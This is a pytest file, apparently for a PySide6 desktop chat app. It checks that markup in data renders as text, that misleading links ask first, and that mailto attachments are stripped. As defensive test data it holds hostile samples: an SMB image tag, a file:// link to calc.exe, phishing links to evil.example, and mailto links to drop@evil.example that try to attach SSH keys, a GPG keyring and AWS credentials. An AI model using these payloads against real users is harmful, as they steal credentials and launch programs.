"""Text from data is shown as text: no title, name, description or sentence is rendered as
markup, and no dialog carries a link to the operating system.

Every widget the window creates is walked (labels, tooltips, the rows of every list, the
message boxes it asks with) while every title, name and sentence holds markup: an image whose
source is a network share (on Windows an SMB connection as soon as it renders) and a link to a
program.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from PySide6.QtCore import QModelIndex, Qt
from PySide6.QtGui import QDesktopServices
from PySide6.QtGui import Qt as QtGui  # (Qt's mightBeRichText lives with QtGui's Qt)
from PySide6.QtWidgets import (
    QAbstractItemView,
    QApplication,
    QHeaderView,
    QLabel,
    QMessageBox,
    QWidget,
)

from tests.ui.drivers import workspace_clicked
from tests.ui.helpers import replies, run, wait_for
from ui.app import Starter
from ui.sharing import RecentlyRemoved

IMAGE = "<img src=//host/share/t.png>"
LINK = "<a href=file:///C:/Windows/System32/calc.exe>report</a>"
WORKSPACE = f"{IMAGE}Design"
CHAT = f"{LINK} plan"
FILE = f"{LINK}.md"
DESCRIPTION = f"Brief {IMAGE} and {LINK}"
FAILURE = f"1 change could not be applied: {IMAGE} is not in the document."

MARKUP = re.compile(r"<\s*(img|a)\b", re.IGNORECASE)


def renders_markup(text: str, text_format: Qt.TextFormat = Qt.TextFormat.AutoText) -> bool:
    """Whether Qt would render *text*'s markup from data (the image or the link above)."""
    if text_format == Qt.TextFormat.PlainText or not MARKUP.search(text):
        return False
    return text_format != Qt.TextFormat.AutoText or QtGui.mightBeRichText(text)


def test_the_check_itself_tells_markup_from_text():
    assert renders_markup(WORKSPACE)
    assert renders_markup(FILE, Qt.TextFormat.RichText)
    assert not renders_markup(WORKSPACE, Qt.TextFormat.PlainText)
    assert not renders_markup("<qt>&lt;img src=//host/share/t.png&gt;Design</qt>")
    label = QLabel(WORKSPACE)
    assert renders_markup(label.text(), label.textFormat())  # Qt's default: the defect


def indexes(view: QAbstractItemView) -> Iterator[QModelIndex]:
    model = view.model()
    if model is None:
        return
    pending = [QModelIndex()]
    while pending:
        parent = pending.pop()
        if model.canFetchMore(parent):
            model.fetchMore(parent)
        for row in range(model.rowCount(parent)):
            try:
                columns = model.columnCount(parent)
            except TypeError:  # a list model (its columnCount is private in PySide6): one
                columns = 1
            for column in range(columns):
                index = model.index(row, column, parent)
                yield index
                if column == 0:
                    pending.append(index)


def problems_in(widgets: list[QWidget]) -> list[str]:
    found = []
    for widget in widgets:
        where = f"{type(widget).__name__} {widget.objectName() or widget.accessibleName()!r}"
        if renders_markup(widget.toolTip()):
            found.append(f"{where}: tooltip {widget.toolTip()!r}")
        if isinstance(widget, QLabel):
            if renders_markup(widget.text(), widget.textFormat()):
                found.append(f"{where}: text {widget.text()!r}")
        if isinstance(widget, QAbstractItemView) and not isinstance(widget, QHeaderView):
            for index in indexes(widget):
                tooltip = index.data(Qt.ItemDataRole.ToolTipRole)
                if isinstance(tooltip, str) and renders_markup(tooltip):
                    found.append(f"{where}: row tooltip {tooltip!r}")
    return found


@pytest.fixture
def asked(monkeypatch) -> list[QMessageBox]:
    """Every message box the window shows, recorded and answered with no (none stays open)."""
    boxes: list[QMessageBox] = []

    def exec_(box: QMessageBox) -> int:
        boxes.append(box)
        return int(QMessageBox.StandardButton.Cancel.value)

    monkeypatch.setattr(QMessageBox, "exec", exec_)
    monkeypatch.setattr(QMessageBox, "open", lambda box, *args: boxes.append(box))
    return boxes


@pytest.fixture
def opened_links(monkeypatch) -> list[object]:
    urls: list[object] = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: urls.append(url) or True)
    return urls


def hostile_workspace(starter: Starter, folder: str, tmp_path) -> tuple[str, str, str]:
    """A workspace, a chat and a knowledge file, each named in markup; a failed rebuild
    whose sentence carries markup."""
    ops, cairn = starter.ops, starter.cairn
    (ws, _), _ = run(ops.add_workspace(folder))
    run(ops.rename_workspace(ws.id, WORKSPACE))
    run(ops.update_workspace(ws.id, description=DESCRIPTION, instructions=DESCRIPTION))
    chat, _ = run(ops.new_chat(folder=folder, title=CHAT))
    run(ops.pin_chat(chat.id))
    source = tmp_path / "report.md"
    source.write_text("# Report\n")
    record = cairn.files.add(ws.id, source, description=DESCRIPTION)
    with cairn.files._db.write() as conn:  # a bundle's name: no folder on disk could be called this
        conn.execute("UPDATE knowledge_file SET name = ? WHERE id = ?", (FILE, record.id))
    cairn.knowledge.record_failure([ws.id], FAILURE)
    return ws.id, chat.id, record.id


def test_every_label_tooltip_and_question_shows_data_as_text(
        opened, folders, tmp_path, asked, opened_links):
    (acme,) = folders("Acme")
    ws_id, chat_id, file_id = hostile_workspace(opened, acme, tmp_path)
    window = opened.window
    sidebar = window.sidebar

    # The workspace, as a click selects it: the header, the knowledge panel, its status line.
    sidebar.select_workspace(ws_id)
    workspace_clicked(window, ws_id)
    panel = window.knowledge
    wait_for(lambda: panel.editor.owner == ws_id and panel.editor.opened is not None)
    panel.tabs.setCurrentWidget(panel.files)
    wait_for(lambda: panel.files.list.topLevelItemCount() == 1)
    panel.files.list.setCurrentItem(panel.files.list.topLevelItem(0))
    wait_for(lambda: panel.files.manifest.text() != "")
    # The questions, asked for real (answered "no" by the fixture).
    assert panel.files.confirm_remove(FILE) is False
    sidebar.handlers.delete("workspace", ws_id)
    sidebar.handlers.delete("chat", chat_id)
    sidebar._show_error(f"Cannot archive “{CHAT}”: a reply is running.")
    window.notice.say(f"“{FILE}” was not imported: {FAILURE}")
    # The chat, opened: its header and its row in Pinned and in the workspace.
    window.select_chat(chat_id)
    wait_for(lambda: window.chat_panel.chat_id == chat_id)
    opened.show_board()
    removed = RecentlyRemoved(run(opened.ops.removed_workspaces()), window)
    removed.problem.setText(f"“{WORKSPACE}” cannot be restored: its folder is gone.")
    QApplication.processEvents()

    assert len(asked) >= 4, "the questions were not asked"
    widgets = list(QApplication.allWidgets())
    for box in asked:
        widgets += box.findChildren(QWidget)
    found = problems_in(widgets)
    assert found == [], "\n".join(found)
    for box in asked:
        for label in box.findChildren(QLabel):
            assert not label.openExternalLinks() or not MARKUP.search(label.text())
    assert opened_links == []
    removed.close()


# ================================================================= links in replies and documents

@pytest.mark.parametrize(("markdown", "asks"), [
    ("[https://bank.example/login](https://evil.example/login)", True),
    ("[www.bank.example](https://bank.example.evil.example)", True),
    ("[ana@example.com](mailto:bob@evil.example)", True),
    ("[bank.example](https://www.bank.example/login)", False),
    ("[the docs](https://evil.example)", False),
    ("<https://bank.example>", False),
])
def test_a_link_showing_another_address_than_it_opens_asks_first(markdown, asks):
    from ui.chat.markdown import render
    from ui.links import ASK

    html = render(markdown).html
    assert (f'href="{ASK}' in html) is asks


def test_following_a_misleading_link_names_its_target_and_opens_only_when_agreed(
        qapp, asked, opened_links, monkeypatch):
    from ui.links import ASK, follow

    assert follow(ASK + "https://evil.example/login") is False  # answered Cancel
    assert opened_links == [] and len(asked) == 1
    assert "https://evil.example/login" in asked[0].text()
    assert follow("https://bank.example/") is True
    assert [url.toString() for url in opened_links] == ["https://bank.example/"]
    assert follow("file:///C:/Windows/System32/calc.exe") is False
    assert follow(ASK + "file:///C:/Windows/System32/calc.exe") is False
    assert len(opened_links) == 1 and len(asked) == 1


def test_the_knowledge_previews_copy_link_copies_and_its_links_show_where_they_go(
        opened, folders, opened_links):
    from PySide6.QtCore import QUrl

    from ui.chat.markdown import COPY
    from ui.knowledge.panel import DISCARD

    (acme,) = folders("Acme")
    (ws, _), _ = run(opened.ops.add_workspace(acme))
    window = opened.window
    window.sidebar.select_workspace(ws.id)
    workspace_clicked(window, ws.id)
    editor = window.knowledge.editor
    window.knowledge.ask_unsaved = replies(lambda: DISCARD)  # the text typed here is not kept
    wait_for(lambda: editor.owner == ws.id and editor.opened is not None)
    editor.edit.setPlainText("# Notes\n\n```\nrm -rf ~/build\n```\n\n"
                             "[https://bank.example](https://evil.example)\n")
    editor._render_preview()
    wait_for(lambda: editor._preview_code == ["rm -rf ~/build"])  # (built off the GUI thread)
    assert not editor.preview.openExternalLinks() and not editor.preview.openLinks()
    editor.preview.anchorClicked.emit(QUrl(COPY + "0"))
    assert QApplication.clipboard().text() == "rm -rf ~/build"
    editor.preview.highlighted.emit(QUrl("cairn:ask:https://evil.example"))
    assert "https://evil.example" in editor.preview.toolTip()
    assert opened_links == []


def test_a_mail_link_opens_without_a_file_attached(qapp, asked, opened_links):
    """Some mail programs attach the file a mailto link names (``attach=``, ``attachment=``):
    a reply's or a bundle's link would mail the person's key away.  Only the address and
    the ordinary fields (subject, body, cc, bcc, to) reach the mail program."""
    from ui.links import follow

    assert follow("mailto:drop@evil.example?subject=Hi&attach=/home/me/.ssh/id_rsa"
                  "&Attachment=file:///home/me/.gnupg/secring.gpg&body=See%20you") is True
    assert follow("mailto:drop@evil.example?ATTACH=~/.aws/credentials") is True
    opened = [url.toString() for url in opened_links]
    assert all("attach" not in url.lower() for url in opened), opened
    assert opened[0].startswith("mailto:drop@evil.example?subject=Hi")
    assert "body=See" in opened[0]
